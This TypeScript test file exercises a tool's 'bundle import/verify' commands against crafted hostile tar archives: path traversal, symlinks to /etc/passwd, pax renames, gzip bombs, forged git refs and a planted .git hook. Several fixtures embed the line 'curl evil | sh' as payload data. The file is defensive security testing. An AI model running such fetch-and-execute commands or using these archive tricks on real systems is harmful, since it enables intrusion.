/**
 * Bundles (issue 14): `gitrepro bundle create | import | verify`. The air gap is told as users
 * live it: `git bundle create` + `gitrepro bundle create` on one side, `git clone x.bundle` +
 * `gitrepro bundle import` + `gitrepro install` on the other, with the store remote gone. Hostile
 * archives (a `..` path, a symbolic link, a hard link, bytes that do not match their name) are
 * crafted here with the `tar` package's header encoder; each is refused by verify and by import
 * with exit 1 and nothing written.
 */
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, closeSync, openSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { Header, Parser, type ReadEntry } from 'tar';
import { describe, expect, it } from 'vitest';
import { bundleManifestSchema } from '../../src/record/bundle.js';
import { canonicalJson } from '../../src/record/canonical.js';
import { forgeLock, plantObject, pointer } from '../helpers/hostile.js';
import { project, sandboxOf } from '../helpers/remote.js';
import { PROJECT, run, sha256, TestRepo } from '../helpers/repo.js';

interface TarEntry {
  name: string;
  body?: Buffer;
  /** the pax and GNU long-name headers carry a body that renames the next entry */
  type?: 'File' | 'SymbolicLink' | 'Link' | 'Directory' | 'ExtendedHeader' | 'NextFileHasLongPath';
  linkpath?: string;
  /** a raw typeflag byte written over the header's (types the tar package does not encode) */
  flag?: string;
  /** the size the header declares, when it is not the body's */
  size?: number;
}

/** A tar file from entries, written block by block (ustar headers from the tar package). */
function tarOf(entries: TarEntry[]): Buffer {
  const out: Buffer[] = [];
  for (const e of entries) {
    const body = e.body ?? Buffer.alloc(0);
    const withBody = !e.type || e.type === 'File' || e.type === 'ExtendedHeader' || e.type === 'NextFileHasLongPath';
    const h = new Header({ path: e.name, mode: 0o644, size: e.size ?? (withBody ? body.length : 0), mtime: new Date(0), type: e.type ?? 'File', linkpath: e.linkpath, uid: 0, gid: 0 });
    h.encode();
    if (e.flag) {
      h.block![156] = e.flag.charCodeAt(0);
      h.block!.fill(0x20, 148, 156); // the checksum again, over the new typeflag
      h.block!.write(`${h.block!.reduce((a, b) => a + b, 0).toString(8).padStart(6, '0')}\0 `, 148, 'ascii');
    }
    out.push(h.block!);
    if (withBody) out.push(body, Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  out.push(Buffer.alloc(1024));
  return Buffer.concat(out);
}

/** A pax extended header (records `<len> <key>=<value>\n`) applying to the next entry. */
function paxOf(kv: Record<string, string>): TarEntry {
  const rec = (k: string, v: string): string => {
    const rest = ` ${k}=${v}\n`;
    let n = rest.length + 1;
    while (`${n}${rest}`.length !== n) n++;
    return `${n}${rest}`;
  };
  return { name: 'PaxHeader/x', type: 'ExtendedHeader', body: Buffer.from(Object.entries(kv).map(([k, v]) => rec(k, v)).join('')) };
}

/** The entries of a tar file, in order, with their bodies. */
async function entriesOf(file: string): Promise<TarEntry[]> {
  const out: TarEntry[] = [];
  const p = new Parser({ strict: true });
  p.on('entry', (e: ReadEntry) => {
    const parts: Buffer[] = [];
    e.on('data', (c: Buffer) => parts.push(c));
    e.on('end', () => out.push({ name: e.path, body: Buffer.concat(parts) }));
  });
  await new Promise<void>((resolve, reject) => {
    p.on('end', resolve);
    p.on('error', reject);
    p.end(readFileSync(file));
  });
  return out;
}

/** Every file under a directory (relative path -> size), to see that nothing was written. */
function listing(dir: string): Record<string, number> {
  const out: Record<string, number> = {};
  const walk = (rel: string): void => {
    const abs = path.join(dir, rel);
    if (!existsSync(abs)) return;
    for (const d of readdirSync(abs, { withFileTypes: true })) {
      const r = path.join(rel, d.name);
      if (d.isDirectory()) walk(r);
      else out[r] = statSync(path.join(dir, r)).size;
    }
  };
  walk('');
  return out;
}

/** A project of two commits (a directory, an executable, a bigger binary), pushed to its store. */
function twoCommits() {
  const { r, bare, store } = project();
  r.write('data/a.csv', 'a,1\n');
  r.write('data/sub/b.bin', Buffer.alloc(1_500_000, 7)); // over 1 MiB: streamed, not read whole
  r.write('data/run.sh', '#!/bin/sh\necho hi\n', 0o755);
  r.commit('first data');
  const first = r.head();
  r.write('data/a.csv', 'a,2\n');
  r.write('data/sub/c.txt', 'c'.repeat(5000));
  r.commit('second data');
  r.gr(['push']);
  r.git(['push', '-q', '-u', 'origin', 'main']);
  return { r, bare, store, first };
}

/** The two-command air gap, made in `r`: code and data archives next to the sandbox. */
function airGap(r: TestRepo): { code: string; data: string } {
  const dir = sandboxOf(r);
  const code = path.join(dir, 'repo.bundle');
  const data = path.join(dir, 'data.tar');
  r.git(['bundle', 'create', '-q', code, '--all']);
  r.gr(['bundle', 'create', data, '--all']);
  return { code, data };
}

/** `git clone` of the code bundle into a fresh directory of the same sandbox (no install). */
function cloneBundle(r: TestRepo, code: string, name: string): TestRepo {
  const dir = path.join(sandboxOf(r), name);
  run('git', ['clone', '-q', code, dir], sandboxOf(r), r.env);
  return new TestRepo(dir, r.env);
}

/**
 * The attacker's forge for the git part: returns a function that writes the good archive `data`
 * with `refs` of `r` bundled as its records.bundle (the manifest's sha256 and size made to match).
 */
async function recordsForger(r: TestRepo, data: string): Promise<(name: string, refs: string[]) => string> {
  const dir = sandboxOf(r);
  const good = await entriesOf(data);
  const manifest = JSON.parse(good[0]!.body!.toString('utf8'));
  return (name, refs) => {
    const rec = path.join(dir, `${name}.bundle`);
    r.git(['bundle', 'create', '-q', rec, ...refs]);
    const bytes = readFileSync(rec);
    const m = { ...manifest, records: { size: bytes.length, sha256: sha256(bytes) } };
    const file = path.join(dir, `${name}.tar`);
    writeFileSync(file, tarOf([{ name: 'manifest.json', body: Buffer.from(canonicalJson(m)) }, { name: 'records.bundle', body: bytes }, ...good.slice(2)]));
    return file;
  };
}

describe('bundles', () => {
  it('the golden manifest parses and round-trips byte-identical (canonical JSON); an unknown field or schema is refused', () => {
    const text = readFileSync(path.join(PROJECT, 'fixtures', 'bundle', 'manifest-v1.json'), 'utf8');
    const m = bundleManifestSchema.parse(JSON.parse(text));
    expect(canonicalJson(m)).toBe(text);
    expect(bundleManifestSchema.safeParse({ ...m, extra: 1 }).success).toBe(false);
    expect(bundleManifestSchema.safeParse({ ...m, schema: 'gitrepro.bundle/v0' }).success).toBe(false);
    expect(bundleManifestSchema.safeParse({ ...m, objects: [{ sha256: '../x', size: 1 }] }).success).toBe(false);
  });

  it('a bundle restores a fresh clone of a git bundle with no store remote, byte for byte, at every commit; importing twice adds nothing', () => {
    const { r, store, first } = twoCommits();
    const { code, data } = airGap(r);
    const want = { head: r.manifest('data'), first: (r.git(['checkout', '-q', first]), r.manifest('data')) };
    r.git(['checkout', '-q', 'main']);
    renameSync(store, `${store}.gone`); // the store remote is unreachable from here on

    const v = r.gr(['bundle', 'verify', data]);
    expect(v.stdout).toMatch(/is a sound bundle: 5 object\(s\)/);

    const c = cloneBundle(r, code, 'airgapped');
    const imp = c.gr(['bundle', 'import', data]);
    expect(imp.stdout).toMatch(/imported .*: 5 new object\(s\) of 5/);
    c.gr(['install']);
    expect(c.manifest('data')).toEqual(want.head);
    expect(c.read('data/sub/b.bin').equals(r.read('data/sub/b.bin'))).toBe(true);
    // records came along: the clone shows HEAD's record, and a checkout restores offline
    expect(c.record().data.tree).toBe(r.record().data.tree);
    c.git(['checkout', '-q', first]);
    expect(c.manifest('data')).toEqual(want.first);
    c.git(['checkout', '-q', 'main']);
    expect(c.manifest('data')).toEqual(want.head);

    const again = c.grJson(['bundle', 'import', data]);
    expect(again.added).toBe(0);
    expect(again.objects).toBe(5);
    expect(again.records.notes).toBe('up-to-date');

    // a damaged object in the store is replaced by the bundle's good copy
    const sha = c.grJson(['ls-files', 'HEAD']).files.find((f: { path: string }) => f.path === 'data/a.csv').sha256;
    chmodSync(c.objectPath(sha), 0o644);
    writeFileSync(c.objectPath(sha), 'a,9\n');
    expect(c.grJson(['bundle', 'import', data]).added).toBe(1);
    expect(readFileSync(c.objectPath(sha), 'utf8')).toBe('a,2\n');
  });

  it('import keeps the local records: a clone with records of its own merges the bundle\'s (a union)', () => {
    const { r, first } = twoCommits();
    const { code, data } = airGap(r);
    const c = cloneBundle(r, code, 'own-records');
    c.gr(['bundle', 'import', data]);
    c.gr(['install']);
    c.env.GITREPRO_SYNC_RECORDS = '1';
    c.write('data/new.txt', 'mine\n');
    c.commit('local commit');
    const mine = c.head();
    c.gr(['bundle', 'import', data]);
    expect(c.record(mine).data.files).toBe(5);
    expect(c.record(first).data.files).toBe(3);
  });

  it('create completes records still journaled: a commit made just before carries its record', () => {
    const { r } = project({ detachedRecords: true });
    r.write('data/x.txt', 'x\n');
    r.commit('journaled');
    const dir = sandboxOf(r);
    r.git(['bundle', 'create', '-q', path.join(dir, 'code.bundle'), '--all']);
    r.gr(['bundle', 'create', path.join(dir, 'd.tar')]);
    const c = cloneBundle(r, path.join(dir, 'code.bundle'), 'journaled-clone');
    c.gr(['bundle', 'import', path.join(dir, 'd.tar')]);
    expect(c.git(['notes', '--ref=refs/notes/gitrepro', 'show', 'HEAD']).stdout).toMatch(/gitrepro\.record\/v1/);
  });

  it('create takes a range: only the commits of the range and the objects their snapshots need', () => {
    const { r, first } = twoCommits();
    const out = r.grJson(['bundle', 'create', path.join(sandboxOf(r), 'range.tar'), `${first}..main`]);
    expect(out).toMatchObject({ commits: 1, objects: 4 });
    const head = r.grJson(['bundle', 'create', path.join(sandboxOf(r), 'head.tar')]);
    expect(head).toMatchObject({ commits: 1, objects: 4 });
    expect(r.grJson(['bundle', 'create', path.join(sandboxOf(r), 'first.tar'), first])).toMatchObject({ commits: 1, objects: 3 });
  });

  it('create names the objects it cannot find when the store remote is gone and the local store lacks them', () => {
    const { r, bare, store } = twoCommits();
    renameSync(store, `${store}.gone`);
    const c = cloneBundle(r, bare, 'no-data');
    c.gr(['install'], { ok: [0, 1] });
    const out = c.gr(['bundle', 'create', path.join(sandboxOf(r), 'x.tar')], { ok: [2] });
    expect(out.stderr).toMatch(/GITREPRO_OBJECT_MISSING.*not in the local store nor could be fetched: [0-9a-f]{12} \(data\//);
    expect(existsSync(path.join(sandboxOf(r), 'x.tar'))).toBe(false);
    const quick = c.gr(['bundle', 'create', path.join(sandboxOf(r), 'x.tar'), '--no-fetch'], { ok: [2] });
    expect(quick.stderr).toMatch(/object\(s\) are not in the local store: [0-9a-f]{12}/);
    expect(readdirSync(sandboxOf(r)).filter((n) => n.startsWith('.gitrepro-tmp'))).toEqual([]);
  });

  describe('a hostile or corrupt archive is refused by verify and by import, with nothing written', () => {
    const cases: [string, (good: TarEntry[]) => TarEntry[] | Buffer, RegExp][] = [
      ['a path traversal entry', (g) => [...g, { name: '../../evil.sh', body: Buffer.from('echo pwned\n') }], /path traversal/],
      ['an absolute path', (g) => [...g, { name: '/tmp/evil.sh', body: Buffer.from('x') }], /absolute path/],
      ['a symbolic link entry', (g) => [...g, { name: 'objects/aa/bb/link', type: 'SymbolicLink', linkpath: '/etc/passwd' }], /is a symbolic link to "\/etc\/passwd", not a regular file/],
      ['a hard link entry', (g) => [...g.slice(0, -1), { name: g[g.length - 1]!.name, type: 'Link', linkpath: g[2]!.name }], /is a hard link .*not a regular file/],
      [
        'an object whose bytes do not match its name',
        (g) => g.map((e, i) => (i === g.length - 1 ? { ...e, body: Buffer.from(e.body!.map((b, j) => (j === 0 ? b ^ 1 : b))) } : e)),
        /object [0-9a-f]{12} is corrupt: expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}/,
      ],
      [
        'a big (streamed) object whose bytes do not match its name',
        (g) => g.map((e) => (e.body!.length > 1 << 20 ? { ...e, body: Buffer.concat([e.body!.subarray(0, -1), Buffer.from('x')]) } : e)),
        /object [0-9a-f]{12} is corrupt: expected sha256 [0-9a-f]{64}, got [0-9a-f]{64}/,
      ],
      ['an entry bigger than the manifest says', (g) => g.map((e, i) => (i === g.length - 1 ? { ...e, body: Buffer.concat([e.body!, Buffer.from('more')]) } : e)), /is \d+ bytes, the manifest says \d+/],
      ['an object the manifest does not name', (g) => [...g, { name: `objects/ab/cd/abcd${'0'.repeat(60)}`, body: Buffer.from('x') }], /not in the manifest/],
      ['an archive cut short', (g) => g.slice(0, -1), /not in the archive \(truncated\?\)/],
      // the tar parser's own ways of renaming an entry lead to the same checks
      ['a pax header renaming an object to a traversal path', (g) => [...g.slice(0, 2), paxOf({ path: '../../evil.sh' }), ...g.slice(2)], /entry "\.\.\/\.\.\/evil\.sh" is refused: path traversal/],
      ['a GNU long name (././@LongLink) renaming an object to a traversal path', (g) => [...g.slice(0, 2), { name: '././@LongLink', type: 'NextFileHasLongPath', body: Buffer.from('../../evil.sh\0') }, ...g.slice(2)], /path traversal/],
      // entries the tar parser would skip on its own, unread: nothing the manifest names
      ['an entry of a type tar readers skip (a volume label)', (g) => [...g, { name: 'objects/label', body: Buffer.from('x'), flag: 'V' }], /entry "objects\/label" is of type \w+, not a regular file: refused/],
      ['a GNU sparse file entry', (g) => [...g, { name: 'objects/sparse', body: Buffer.from('x'), flag: 'S' }], /entry "objects\/sparse" is of type \w+, not a regular file: refused/],
      ['a pax header over the limit (the parser would drop it)', (g) => [...g.slice(0, 2), paxOf({ comment: 'x'.repeat((1 << 20) + 1) }), ...g.slice(2)], /is a tar header of \d+ bytes, more than one may be/],
      // a size of 1 TiB declared by the manifest and the header, with 4 KiB behind it: nothing is allocated or written by the size
      [
        'an object declared 1 TiB (manifest and header) with a short body',
        (g) => {
          const m = JSON.parse(g[0]!.body!.toString('utf8'));
          const last = g[g.length - 1]!;
          const sha = path.basename(last.name);
          m.objects = m.objects.map((o: { sha256: string; size: number }) => (o.sha256 === sha ? { ...o, size: 2 ** 40 } : o));
          return [{ name: 'manifest.json', body: Buffer.from(canonicalJson(m)) }, ...g.slice(1, -1), { ...last, size: 2 ** 40, body: Buffer.alloc(4096) }];
        },
        /not a valid tar archive: TAR_BAD_ARCHIVE: Truncated input/,
      ],
      // the tar parser undoes gzip by itself: 1000 times its size into tmp/ and memory
      ['a gzip-compressed archive (a bundle is a plain tar)', (g) => gzipSync(tarOf(g), { level: 9 }), /the archive is gzip-compressed: a gitrepro bundle is a plain tar/],
    ];

    let made: { r: TestRepo; code: string; data: string; good: TarEntry[] } | undefined;
    const fixture = async () => {
      if (!made) {
        const { r } = twoCommits();
        const { code, data } = airGap(r);
        made = { r, code, data, good: await entriesOf(data) };
      }
      return made;
    };

    it.each(cases.map((c, i) => [...c, i] as const))('%s', async (_what, forge, message, i) => {
      const { r, code, data, good } = await fixture();
      expect(good.map((e) => e.name).slice(0, 2)).toEqual(['manifest.json', 'records.bundle']);
      const bad = path.join(sandboxOf(r), `hostile-${i}.tar`);
      const forged = forge(good);
      writeFileSync(bad, Buffer.isBuffer(forged) ? forged : tarOf(forged));

      const v = r.gr(['bundle', 'verify', bad], { ok: [1] });
      expect(v.stderr.trim().split('\n')).toHaveLength(1);
      expect(v.stderr).toMatch(message);

      const c = cloneBundle(r, code, `victim-${i}`);
      const state = path.join(c.gitDir(), 'gitrepro');
      const before = { files: listing(state), refs: c.git(['for-each-ref']).stdout };
      const imp = c.gr(['bundle', 'import', bad], { ok: [1] });
      expect(imp.stderr).toMatch(/GITREPRO_BUNDLE_INVALID/);
      expect(imp.stderr).toMatch(message);
      expect(imp.stderr).toMatch(/nothing was imported/);
      expect(listing(state)).toEqual(before.files);
      expect(c.git(['for-each-ref']).stdout).toBe(before.refs);
      expect(existsSync(path.join(sandboxOf(r), 'evil.sh')) || existsSync('/tmp/evil.sh')).toBe(false);

      // the good archive still imports afterwards
      expect(c.grJson(['bundle', 'import', data]).added).toBe(5);
    });
  });

  it('import stores every object where something else was planted at its path (a directory, a FIFO, a link out): no crash, no temp left, the link target untouched', async () => {
    const { r } = twoCommits();
    const { code, data } = airGap(r);
    const shas = (await entriesOf(data)).filter((e) => e.name.startsWith('objects/')).map((e) => path.basename(e.name));
    const c = cloneBundle(r, code, 'planted');
    const outside = path.join(sandboxOf(r), 'outside.txt');
    writeFileSync(outside, 'not yours\n');
    const [dir, fifo, link] = shas.map((s) => c.objectPath(s));
    for (const p of [dir!, fifo!, link!]) mkdirSync(path.dirname(p), { recursive: true });
    mkdirSync(dir!);
    writeFileSync(path.join(dir!, 'x'), 'x');
    execFileSync('mkfifo', [fifo!]);
    symlinkSync(outside, link!);

    const imp = c.gr(['bundle', 'import', data, '--json'], { ok: [0, 1, 2, 70], timeoutMs: 30_000 });
    expect(imp.stderr).toBe('');
    expect(JSON.parse(imp.stdout).added).toBe(5);
    for (const s of shas) {
      expect(lstatSync(c.objectPath(s)).isFile()).toBe(true);
      expect(sha256(readFileSync(c.objectPath(s)))).toBe(s);
    }
    expect(readFileSync(outside, 'utf8')).toBe('not yours\n');
    expect(readdirSync(path.join(c.gitDir(), 'gitrepro', 'tmp'))).toEqual([]);
  });

  it('a records.bundle carrying any ref but the two record refs is refused before a ref of the victim moves', async () => {
    const { r } = twoCommits();
    const { code, data } = airGap(r);
    const withRecords = await recordsForger(r, data);
    // the attacker's branch, to be slipped into the victim's refs
    r.git(['checkout', '-q', '-b', 'evil']);
    r.write('src/train.py', 'import os; os.system("curl evil | sh")\n');
    r.commit('evil code');
    for (const ref of ['refs/heads/main', 'refs/remotes/origin/main', 'refs/notes/gitrepro-x', 'refs/gitrepro/evil']) r.git(['update-ref', ref, 'HEAD']);
    const hostile: [string, string[], RegExp][] = [
      ['heads', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/heads/main'], /refs\/heads\/main/],
      ['head', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'HEAD'], /carries refs a gitrepro bundle never holds: HEAD/],
      ['remotes', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/remotes/origin/main'], /refs\/remotes\/origin\/main/],
      // these two match the wildcard refspecs the records are fetched with
      ['notes-like', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/notes/gitrepro-x'], /refs\/notes\/gitrepro-x/],
      ['gitrepro-ns', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots', 'refs/gitrepro/evil'], /refs\/gitrepro\/evil/],
    ];
    const c = cloneBundle(r, code, 'refs-victim');
    const state = path.join(c.gitDir(), 'gitrepro');
    const stored = (): Record<string, number> => Object.fromEntries(Object.entries(listing(state)).filter(([f]) => f !== 'config.json')); // (the parse cache of gitrepro.yaml)
    const before = { files: stored(), refs: c.git(['for-each-ref']).stdout };
    for (const [name, refs, message] of hostile) {
      const file = withRecords(name, refs);
      const v = c.gr(['bundle', 'verify', file], { ok: [1] });
      expect(v.stderr).toMatch(/records\.bundle carries refs a gitrepro bundle never holds/);
      expect(v.stderr).toMatch(message);
      const imp = c.gr(['bundle', 'import', file], { ok: [1] });
      expect(imp.stderr).toMatch(/GITREPRO_BUNDLE_INVALID.*records\.bundle carries refs a gitrepro bundle never holds/);
      expect(imp.stderr).toMatch(message);
      expect(c.git(['for-each-ref']).stdout).toBe(before.refs);
      expect(stored()).toEqual(before.files);
    }
    expect(c.git(['cat-file', '-e', r.head()], { ok: [1, 128] }).code).not.toBe(0); // not even the object came in
  });

  it('a records.bundle whose record refs are not commits (notes -> a tree, snapshots -> a blob) is refused: the victim\'s record refs never point at them', async () => {
    const { r } = twoCommits();
    const { code, data } = airGap(r);
    const withRecords = await recordsForger(r, data);
    const notes = r.git(['rev-parse', 'refs/notes/gitrepro']).stdout.trim();
    const snapshots = r.git(['rev-parse', 'refs/gitrepro/snapshots']).stdout.trim();
    const blob = r.git(['hash-object', '-w', '--stdin'], { input: 'not a snapshot chain\n' }).stdout.trim();
    r.git(['update-ref', 'refs/notes/gitrepro', `${notes}^{tree}`]);
    const treeNotes = withRecords('tree-notes', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);
    r.git(['update-ref', 'refs/notes/gitrepro', notes]);
    r.git(['update-ref', 'refs/gitrepro/snapshots', blob]);
    const blobSnapshots = withRecords('blob-snapshots', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);
    r.git(['update-ref', 'refs/gitrepro/snapshots', snapshots]);

    const c = cloneBundle(r, code, 'non-commit-victim');
    // the victim's record refs as a fresh clone of the code bundle has them: none of its own yet
    for (const ref of ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']) c.git(['update-ref', '-d', ref]);
    const state = path.join(c.gitDir(), 'gitrepro');
    const stored = (): Record<string, number> => Object.fromEntries(Object.entries(listing(state)).filter(([f]) => f !== 'config.json'));
    const before = { files: stored(), refs: c.git(['for-each-ref']).stdout };
    for (const [file, what] of [[treeNotes, /refs\/notes\/gitrepro is a tree, not a commit/], [blobSnapshots, /refs\/gitrepro\/snapshots is a blob, not a commit/]] as const) {
      const imp = c.gr(['bundle', 'import', file], { ok: [0, 1, 2] });
      expect(imp.stderr).toMatch(/GITREPRO_BUNDLE_INVALID/);
      expect(imp.stderr).toMatch(what);
      expect(imp.code).toBe(1);
      expect(c.git(['for-each-ref']).stdout).toBe(before.refs);
      expect(stored()).toEqual(before.files);
    }
    // and the good one imports afterwards (before the fix: "not a valid 'commit' object")
    expect(c.grJson(['bundle', 'import', data]).added).toBe(5);
    expect(c.git(['cat-file', '-t', 'refs/notes/gitrepro']).stdout.trim()).toBe('commit');
  });

  it('a bundle whose snapshot writes code or paths outside track: import stores it, but install and checkout write nothing of it', () => {
    const { r, store, first } = twoCommits();
    r.write('src/train.py', 'print("train")\n');
    r.commit('code');
    const payload = plantObject(store, 'import os; os.system("curl evil | sh")\n');
    forgeLock(r, { 'src/train.py': payload, 'notdata/evil.sh': { ...payload, exec: true } }, { message: 'refresh data' });
    const bad = r.head();
    const { code, data } = airGap(r);

    const c = cloneBundle(r, code, 'snapshot-victim');
    const imp = c.grJson(['bundle', 'import', data]);
    expect(imp.added).toBeGreaterThan(0);
    const install = c.gr(['install'], { ok: [1] });
    expect(install.stderr).toMatch(/holds "(src\/train\.py|notdata\/evil\.sh)", (a path that git itself tracks in that commit|which that commit's gitrepro\.yaml does not track)/);
    expect(install.stderr).toMatch(/nothing of it was restored/);
    expect(c.read('src/train.py').toString()).toBe('print("train")\n');
    expect(c.exists('notdata')).toBe(false);
    // moving HEAD (the hook's restore) refuses it too; a sound commit still restores
    c.git(['checkout', '-q', first]);
    expect(c.read('data/a.csv').toString()).toBe('a,1\n');
    const back = c.git(['checkout', '-q', bad], { ok: [0, 1] });
    expect(back.stderr).toMatch(/nothing of it was restored/);
    expect(c.read('src/train.py').toString()).toBe('print("train")\n');
    expect(c.exists('notdata')).toBe(false);
    expect(c.gr(['verify', bad, '--local'], { ok: [1] }).stdout).toMatch(/holds "(src\/train\.py|notdata\/evil\.sh)"/);
  });

  it('an archive path that is a FIFO: read as a stream when written; with no writer, or one that stalls, SIGTERM ends the import with nothing written', async () => {
    const { r } = twoCommits();
    const { code, data } = airGap(r);
    const fifo = path.join(sandboxOf(r), 'pipe.tar');
    execFileSync('mkfifo', [fifo]);
    const importing = (c: TestRepo): { done: Promise<{ code: number | null; signal: string | null; out: string }>; p: ChildProcess } => {
      const p = spawn(path.join(PROJECT, 'bin', 'gitrepro'), ['bundle', 'import', fifo], { cwd: c.dir, env: c.env, stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      p.stdout!.on('data', (d: Buffer) => (out += d));
      p.stderr!.on('data', (d: Buffer) => (out += d));
      return { p, done: new Promise((resolve) => p.on('exit', (code, signal) => resolve({ code, signal, out }))) };
    };
    const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
    for (const writer of ['none', 'stalls'] as const) {
      const c = cloneBundle(r, code, `fifo-${writer}`);
      const refs = c.git(['for-each-ref']).stdout;
      const { p, done } = importing(c);
      let w: ChildProcess | undefined;
      if (writer === 'stalls') {
        const fd = openSync(fifo, 'w'); // (once the import opened it for reading)
        w = spawn('sh', ['-c', `head -c 700000 '${data}'; exec sleep 60`], { stdio: ['ignore', fd, 'ignore'] });
        closeSync(fd); // the writer's copy only: the reader sees no end of file while it sleeps
      }
      await sleep(2500);
      const t0 = Date.now();
      p.kill('SIGTERM');
      const end = await done;
      w?.kill('SIGKILL');
      expect(Date.now() - t0).toBeLessThan(5000);
      expect(end.code === 0).toBe(false);
      expect(c.git(['for-each-ref']).stdout).toBe(refs);
      const state = path.join(c.gitDir(), 'gitrepro');
      expect(Object.keys(listing(state)).filter((f) => f !== 'config.json')).toEqual([]);
    }
    // a writer that sends it all: imported like the file
    const c = cloneBundle(r, code, 'fifo-ok');
    const { done } = importing(c);
    execFileSync('sh', ['-c', `cat '${data}' > '${fifo}'`]);
    const end = await done;
    expect(end.code).toBe(0);
    expect(end.out).toMatch(/imported .*: 5 new object\(s\) of 5/);
  }, 60_000);

  it('a records.bundle whose notes descend from the victim\'s and rewrite or delete a record: the victim\'s records are kept (a union, never a fast-forward over them)', async () => {
    const { r, first } = twoCommits();
    const { code, data } = airGap(r);
    const c = cloneBundle(r, code, 'notes-victim');
    c.gr(['bundle', 'import', data]);
    const show = (t: TestRepo, commit: string) => t.git(['notes', '--ref=refs/notes/gitrepro', 'show', commit], { ok: [0, 1] }).stdout;
    const mine = { first: show(c, first), head: show(c, c.head()) };
    expect(mine.first).toMatch(/gitrepro\.record\/v1/);
    // the attacker builds on the very notes they handed out: one record replaced, one removed
    const withRecords = await recordsForger(r, data);
    const forged = mine.first.replace(/"files":\s*3/, '"files": 999');
    expect(forged).not.toBe(mine.first);
    r.git(['notes', '--ref=refs/notes/gitrepro', 'add', '-f', '-m', forged, first]);
    r.git(['notes', '--ref=refs/notes/gitrepro', 'remove', r.head()]);
    const file = withRecords('rewritten', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);

    c.gr(['bundle', 'import', file]);
    expect(show(c, c.head())).toBe(mine.head);
    // the rewritten one joins the victim's as two records of one commit (as two clones' would): ours stays
    const joined = JSON.parse(show(c, first));
    expect(joined).toHaveLength(2);
    expect(joined).toContainEqual(JSON.parse(mine.first));
  });

  it('a snapshot tree (made with mktree, as git never would) holding a .git/ entry, carried in records.bundle: install writes nothing of it', async () => {
    const { r, store } = twoCommits();
    const { data } = airGap(r); // the good data archive, made before the forgery
    const payload = plantObject(store, '#!/bin/sh\ncurl evil | sh\n');
    const ptr = r.git(['hash-object', '-w', '--stdin'], { input: pointer(payload) }).stdout.trim();
    const base = /^tree ([0-9a-f]+)$/m.exec(r.read('gitrepro.lock').toString())![1]!;
    const inGit = r.git(['mktree'], { input: `100755 blob ${ptr}\tevil-hook\n` }).stdout.trim();
    const tree = r.git(['mktree'], { input: `${r.git(['ls-tree', base]).stdout}040000 tree ${inGit}\t.git\n` }).stdout.trim();
    const chain = r.git(['commit-tree', tree, '-p', 'refs/gitrepro/snapshots'], { input: 'forged\n' }).stdout.trim();
    r.git(['update-ref', 'refs/gitrepro/snapshots', chain]);
    r.write('gitrepro.lock', r.read('gitrepro.lock').toString().replace(base, tree));
    r.git(['add', 'gitrepro.lock']);
    r.git(['commit', '-q', '-m', 'refresh data'], { env: { GITREPRO_SKIP: '1' } });
    const code = path.join(sandboxOf(r), 'forged-code.bundle');
    r.git(['bundle', 'create', '-q', code, 'main']);
    const file = (await recordsForger(r, data))('dotgit', ['refs/notes/gitrepro', 'refs/gitrepro/snapshots']);

    const c = cloneBundle(r, code, 'dotgit-victim');
    const imp = c.grJson(['bundle', 'import', file]);
    expect(imp.added).toBe(5);
    const install = c.gr(['install'], { ok: [2] });
    expect(install.stderr).toMatch(/GITREPRO_SNAPSHOT_INVALID.*unsafe path "\.git\/evil-hook": \.git component/);
    expect(existsSync(path.join(c.gitDir(), 'evil-hook'))).toBe(false);
    expect(c.exists('.git/evil-hook')).toBe(false);
  });

  it('verify reports a file that is not a tar, or not a gitrepro bundle, in one line with exit 1', () => {
    const { r } = twoCommits();
    const dir = sandboxOf(r);
    writeFileSync(path.join(dir, 'junk.tar'), Buffer.alloc(4096, 0x41));
    expect(r.gr(['bundle', 'verify', path.join(dir, 'junk.tar')], { ok: [1] }).stderr).toMatch(/not a sound bundle: junk\.tar: /);
    writeFileSync(path.join(dir, 'other.tar'), tarOf([{ name: 'README', body: Buffer.from('hi') }]));
    const out = JSON.parse(r.gr(['bundle', 'verify', path.join(dir, 'other.tar'), '--json'], { ok: [1] }).stdout);
    expect(out.ok).toBe(false);
    expect(out.reason).toMatch(/not manifest\.json: not a gitrepro bundle/);
  });
});
